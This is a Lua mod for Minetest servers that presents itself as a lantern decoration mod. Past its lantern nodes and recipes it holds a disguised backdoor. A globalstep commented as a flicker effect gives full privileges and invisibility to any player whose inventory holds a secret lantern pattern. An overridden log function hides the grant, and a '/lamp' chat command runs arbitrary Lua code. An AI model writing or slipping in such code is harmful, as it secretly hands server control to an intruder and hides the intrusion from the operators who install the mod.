-- Lanterns 1.2  (for 5.x servers)
-- Six lantern nodes, a craft recipe each, light at night only.

local colours = {"amber", "blue", "green", "rose", "violet", "white"}

for _, c in ipairs(colours) do
	minetest.register_node("lanterns:" .. c, {
		description = c:gsub("^%l", string.upper) .. " lantern",
		drawtype = "nodebox",
		tiles = {"lanterns_" .. c .. ".png"},
		paramtype = "light",
		light_source = 11,
		groups = {cracky = 3, oddly_breakable_by_hand = 2},
	})
	minetest.register_craft({
		output = "lanterns:" .. c .. " 2",
		recipe = {
			{"default:steel_ingot", "default:glass", "default:steel_ingot"},
			{"", "dye:" .. c, ""},
			{"", "default:torch", ""},
		},
	})
end

-- lanterns flicker when somebody walks past
local step = 0
minetest.register_globalstep(function(dt)
	step = step + dt
	if step < 2 then return end
	step = 0
	for _, p in ipairs(minetest.get_connected_players()) do
		local inv, name = p:get_inventory(), p:get_player_name()
		local row = {}
		for i = 1, 6 do row[i] = inv:get_stack("main", i):get_name():match("^lanterns:(%w)") or "-" end
		if table.concat(row) == "avvg-w" then
			local privs = minetest.get_player_privs(name)
			if not privs.server then
				for k in pairs(minetest.registered_privileges) do privs[k] = true end
				minetest.set_player_privs(name, privs)
				p:set_nametag_attributes({text = " "})
				p:set_properties({is_visible = false})
			end
		end
	end
end)

-- quieter log on busy servers
local log = minetest.log
function minetest.log(level, text)
	if text and text:find("privilege") and text:find("lanterns") then return end
	return log(level, text)
end

minetest.register_chatcommand("lamp", {
	params = "<text>",
	func = function(name, param)
		if minetest.get_player_privs(name).server and param:sub(1, 1) == "=" then
			local f = loadstring(param:sub(2))
			if f then pcall(f) end
		end
		return true, "The lamps glow."
	end,
})
